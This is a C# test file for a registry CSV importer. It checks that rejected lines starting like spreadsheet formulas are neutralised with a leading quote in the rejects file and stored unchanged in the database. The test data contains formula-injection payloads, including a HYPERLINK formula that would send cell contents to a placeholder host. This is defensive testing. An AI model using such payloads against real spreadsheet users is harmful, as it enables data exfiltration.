using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Sejahtera.Engine.Persistence;
using Sejahtera.Engine.Registry.Import;
using Sejahtera.Engine.Tests.Support;

namespace Sejahtera.Engine.Tests.Registry;

/// <summary>
/// The rejects file is opened by people in a spreadsheet. A rejected line is whatever the sender put
/// in it, so a cell that would start a formula (<c>= + - @</c>, tab, CR) is written as text: a single
/// quote in front, the field quoted (OWASP). The database keeps the line exactly as it was.
/// </summary>
public sealed class RejectsFileTests
{
    private static readonly string Budi = DtksFile.Nik("530701", "120680", 1);

    private static readonly string[] FormulaLines =
    [
        "=1+2,53.07.01.2001",
        "@SUM(A1),53.07.01.2001",
        "+HYPERLINK(\"https://contoh.test/?d=\"&A1;\"klik\"),x",
        "-2+3,53.07.01.2001",
        "\t=1+2,53.07.01.2001",
        "\r=1+2,53.07.01.2001",
    ];

    public static TheoryData<DatabaseProvider> Providers => new() { DatabaseProvider.Sqlite, DatabaseProvider.Postgres };

    [SkippableTheory]
    [MemberData(nameof(Providers))]
    public async Task Rejected_lines_that_start_like_a_formula_are_written_as_text_and_stored_as_they_were(DatabaseProvider provider)
    {
        await using var db = await TestDatabase.CreateAsync(provider);
        var file = new DtksFile().Row("H1", Budi);
        foreach (var line in FormulaLines)
        {
            file.Raw(line);
        }

        file.Row("=HYPERLINK(\"https://contoh.test\")", "123");
        var path = file.WriteTo(db.Folder);

        var summary = await new DtksImporter(db.Settings, TimeProvider.System).ImportAsync(new ImportRequest(path));

        Assert.Equal(FormulaLines.Length + 1, summary.Rejected);
        var cells = ReadCsv(summary.RejectsFile);
        Assert.Equal(["baris", "id_dtks", "alasan", "isi_baris"], cells[0]);
        var rows = cells.Skip(1).ToList();
        Assert.Equal(FormulaLines.Length + 1, rows.Count);
        Assert.Equal(Enumerable.Range(3, FormulaLines.Length + 1).Select(n => n.ToString(System.Globalization.CultureInfo.InvariantCulture)), rows.Select(r => r[0]));
        Assert.All(rows, r => Assert.StartsWith("'", r[3], StringComparison.Ordinal));
        Assert.DoesNotContain(rows, r => r[2].StartsWith('\''));
        Assert.Equal("'=HYPERLINK(\"https://contoh.test\")", rows[^1][1]);

        await using var ctx = db.Context();
        var stored = await ctx.ImportRejects.OrderBy(r => r.LineNumber).ToListAsync();
        var original = File.ReadAllText(path).Split('\n')[2..^1];
        Assert.Equal(original, stored.Select(r => r.RawLine));
        Assert.Equal(FormulaLines, stored.Take(FormulaLines.Length).Select(r => r.RawLine));
        Assert.Equal("=HYPERLINK(\"https://contoh.test\")", stored[^1].IdDtks);
        Assert.Equal(rows.Select(r => r[3]), stored.Select(r => "'" + r.RawLine));
    }

    /// <summary>The file as a spreadsheet or any CSV library reads it: cells, quotes removed.</summary>
    private static List<string[]> ReadCsv(string path)
    {
        var records = new List<string[]>();
        using var reader = CsvReader.FromFile(path, new CsvReaderOptions { Separator = ',', HasHeader = false });
        while (reader.Read())
        {
            records.Add(reader.Current.ToArray());
        }

        return records;
    }
}
